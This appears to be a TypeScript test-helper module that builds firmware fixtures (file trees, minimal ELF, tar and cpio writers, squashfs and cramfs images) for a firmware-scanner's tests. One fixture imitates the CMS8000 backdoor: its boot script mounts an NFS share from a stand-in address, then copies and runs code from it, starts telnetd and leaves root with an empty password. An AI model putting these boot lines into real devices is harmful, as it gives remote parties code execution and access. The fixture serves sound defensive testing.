// Builders for test firmware: fixture trees written into a temp dir, minimal ELF, tar and
// cpio writers (so hostile archives need no tool that would refuse to create them), and
// image makers using mkfs.cramfs / mksquashfs. All addresses are documentation ranges.
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { IN_CI } from '../helpers/paths.js';

export const TOOLS = ['mkfs.cramfs', 'fsck.cramfs', 'mksquashfs', 'unsquashfs', 'tar', 'gzip', 'cpio'] as const;

function have(tool: string): boolean {
  try {
    execFileSync('/bin/sh', ['-c', `command -v ${tool} || test -x /usr/sbin/${tool} || test -x /sbin/${tool}`], {
      stdio: 'ignore',
    });
    return true;
  } catch {
    return false;
  }
}

/** Missing tools: in CI that is a failure, locally the suite is skipped with a note. */
export function missingTools(): string[] {
  const missing = TOOLS.filter((t) => !have(t));
  if (missing.length > 0 && IN_CI)
    throw new Error(`firmware tests need ${missing.join(', ')} (scripts/setup-system.sh)`);
  return missing;
}

export type Tree = Record<string, string | Uint8Array | { symlink: string }>;

export function writeTree(root: string, tree: Tree): string {
  mkdirSync(root, { recursive: true });
  for (const [rel, content] of Object.entries(tree)) {
    const p = join(root, rel);
    mkdirSync(dirname(p), { recursive: true });
    if (typeof content === 'object' && 'symlink' in content) symlinkSync(content.symlink, p);
    else {
      writeFileSync(p, content);
      if (rel.includes('init.d/') || rel.startsWith('bin/') || rel.startsWith('opt/')) chmodSync(p, 0o755);
    }
  }
  return root;
}

export function mksquashfs(tree: string, out: string): string {
  execFileSync('mksquashfs', [tree, out, '-noappend', '-quiet', '-no-progress', '-all-root'], { stdio: 'ignore' });
  return out;
}

export function mkcramfs(tree: string, out: string): string {
  execFileSync(have('mkfs.cramfs') ? 'mkfs.cramfs' : '/usr/sbin/mkfs.cramfs', [tree, out], { stdio: 'ignore' });
  return out;
}

/**
 * A minimal 64-bit little-endian x86-64 executable: ELF header, three program headers
 * (PT_LOAD over the whole file, PT_INTERP, PT_DYNAMIC), the interpreter path, a dynamic
 * section (DT_NEEDED, DT_STRTAB, DT_NULL), its string table, then `data` as rodata.
 */
export function minimalElf(opts: { interp: string; needed: string[]; data: string }): Uint8Array {
  const base = 0x400000;
  const phoff = 64;
  const phnum = 3;
  const interpOff = phoff + 56 * phnum;
  const interp = Buffer.from(`${opts.interp}\0`, 'latin1');
  const dynstr = Buffer.from(`\0${opts.needed.map((n) => `${n}\0`).join('')}`, 'latin1');
  const dynOff = (interpOff + interp.length + 7) & ~7;
  const dynEntries = opts.needed.length + 2;
  const strOff = dynOff + dynEntries * 16;
  const dataOff = strOff + dynstr.length;
  const data = Buffer.from(`\0${opts.data}\0`, 'latin1');
  const size = dataOff + data.length;
  const b = Buffer.alloc(size);
  b.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1], 0); // magic, ELFCLASS64, ELFDATA2LSB, EV_CURRENT
  b.writeUInt16LE(2, 16); // e_type EXEC
  b.writeUInt16LE(62, 18); // e_machine x86-64
  b.writeUInt32LE(1, 20); // e_version
  b.writeBigUInt64LE(BigInt(base + dataOff), 24); // e_entry (never run)
  b.writeBigUInt64LE(BigInt(phoff), 32); // e_phoff
  b.writeUInt16LE(64, 52); // e_ehsize
  b.writeUInt16LE(56, 54); // e_phentsize
  b.writeUInt16LE(phnum, 56); // e_phnum
  const ph = (i: number, type: number, off: number, len: number): void => {
    const p = phoff + i * 56;
    b.writeUInt32LE(type, p);
    b.writeUInt32LE(4, p + 4); // PF_R
    b.writeBigUInt64LE(BigInt(off), p + 8);
    b.writeBigUInt64LE(BigInt(base + off), p + 16);
    b.writeBigUInt64LE(BigInt(base + off), p + 24);
    b.writeBigUInt64LE(BigInt(len), p + 32);
    b.writeBigUInt64LE(BigInt(len), p + 40);
  };
  ph(0, 1, 0, size); // PT_LOAD
  ph(1, 3, interpOff, interp.length); // PT_INTERP
  ph(2, 2, dynOff, dynEntries * 16); // PT_DYNAMIC
  interp.copy(b, interpOff);
  let p = dynOff;
  let nameOff = 1;
  for (const n of opts.needed) {
    b.writeBigInt64LE(1n, p); // DT_NEEDED
    b.writeBigUInt64LE(BigInt(nameOff), p + 8);
    nameOff += n.length + 1;
    p += 16;
  }
  b.writeBigInt64LE(5n, p); // DT_STRTAB (a virtual address)
  b.writeBigUInt64LE(BigInt(base + strOff), p + 8);
  dynstr.copy(b, strOff); // DT_NULL entry stays zero
  data.copy(b, dataOff);
  return b;
}

export interface TarEntry {
  name: string;
  type?: '0' | '2' | '5' | '1';
  data?: string;
  linkname?: string;
}

/** ustar writer: 512-byte headers with octal fields and the checksum, data padded to 512. */
export function tarArchive(entries: TarEntry[]): Buffer {
  const blocks: Buffer[] = [];
  for (const e of entries) {
    const h = Buffer.alloc(512);
    const data = Buffer.from(e.data ?? '', 'latin1');
    const oct = (v: number, off: number, len: number): void => {
      h.write(`${v.toString(8).padStart(len - 1, '0')}\0`, off, 'latin1');
    };
    h.write(e.name, 0, 100, 'latin1');
    oct(e.type === '5' ? 0o755 : 0o644, 100, 8);
    oct(0, 108, 8);
    oct(0, 116, 8);
    oct(e.type === undefined || e.type === '0' ? data.length : 0, 124, 12);
    oct(1700000000, 136, 12);
    h.write('        ', 148, 'latin1');
    h.write(e.type ?? '0', 156, 'latin1');
    if (e.linkname) h.write(e.linkname, 157, 100, 'latin1');
    h.write('ustar\x0000', 257, 'latin1');
    let sum = 0;
    for (const c of h) sum += c;
    h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
    blocks.push(h);
    if (data.length > 0) blocks.push(data, Buffer.alloc((512 - (data.length % 512)) % 512));
  }
  blocks.push(Buffer.alloc(1024));
  return Buffer.concat(blocks);
}

/** newc cpio writer (the initramfs format). */
export function cpioArchive(entries: { name: string; data: string; mode?: number }[]): Buffer {
  const parts: Buffer[] = [];
  const pad = (n: number): Buffer => Buffer.alloc((4 - (n % 4)) % 4);
  const all = [...entries, { name: 'TRAILER!!!', data: '', mode: 0 }];
  all.forEach((e, i) => {
    const data = Buffer.from(e.data, 'latin1');
    const name = Buffer.from(`${e.name}\0`, 'latin1');
    const hex = (v: number): string => v.toString(16).padStart(8, '0');
    const fields = [i + 1, e.mode ?? 0o100644, 0, 0, 1, 0, data.length, 0, 0, 0, 0, name.length, 0];
    const hdr = Buffer.from(`070701${fields.map(hex).join('')}`, 'latin1');
    parts.push(hdr, name, pad(hdr.length + name.length), data, pad(data.length));
  });
  return Buffer.concat(parts);
}

export const MONITOR_ADDRESS = '203.0.113.120';
export const NFS_ADDRESS = '203.0.113.119';

/** Imitates the CMS8000 boot behaviour CISA described, with fictional (documentation) addresses. */
export function cms8000Tree(): Tree {
  return {
    'etc/init.d/rcS': [
      '#!/bin/sh',
      '# boot script (fictional addresses)',
      'mount -t proc proc /proc',
      'ifconfig lo 127.0.0.1 up',
      'ifconfig eth0 up',
      `mount -t nfs -o nolock ${NFS_ADDRESS}:/pm /mnt`,
      'cp /mnt/* /opt/app/; /opt/app/run',
      'telnetd',
      '',
    ].join('\n'),
    'etc/inittab': '::sysinit:/etc/init.d/rcS\nconsole::respawn:-/bin/sh\n',
    'etc/passwd': 'root::0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n',
    'etc/ssl/device.key':
      '-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n-----END RSA PRIVATE KEY-----\n',
    'bin/busybox': Buffer.concat([
      Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0, 0]),
      Buffer.from('\0BusyBox v1.20.2 (2013-05-07 10:21:06 CST) multi-call binary.\0', 'latin1'),
    ]),
    'bin/sh': { symlink: 'busybox' },
    'lib/ld-uClibc-0.9.33.2.so': Buffer.from([0, 1, 2, 3]),
    'lib/ld-uClibc.so.0': { symlink: 'ld-uClibc-0.9.33.2.so' },
    'opt/app/monitor': minimalElf({
      interp: '/lib/ld-uClibc.so.0',
      needed: ['libc.so.0', 'libpthread.so.0'],
      data: `hl7 server ${MONITOR_ADDRESS}`,
    }),
  };
}

/** A clean image: local-only boot, locked accounts, nothing started that listens in the clear. */
export function cleanTree(): Tree {
  return {
    'etc/init.d/rcS': [
      '#!/bin/sh',
      'mount -t proc proc /proc',
      'ifconfig lo 127.0.0.1 up',
      'ifconfig eth0 192.168.10.20 netmask 255.255.255.0 up',
      'syslogd',
      '',
    ].join('\n'),
    'etc/inittab': '::sysinit:/etc/init.d/rcS\nttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n',
    'etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n',
    'etc/shadow': 'root:$6$saltsalt$0123456789abcdefghijklmnopqrstuv:19000:0:99999:7:::\n',
    'bin/busybox': Buffer.from('\0\0BusyBox v1.36.1 (2024-01-01) multi-call binary.\0', 'latin1'),
  };
}
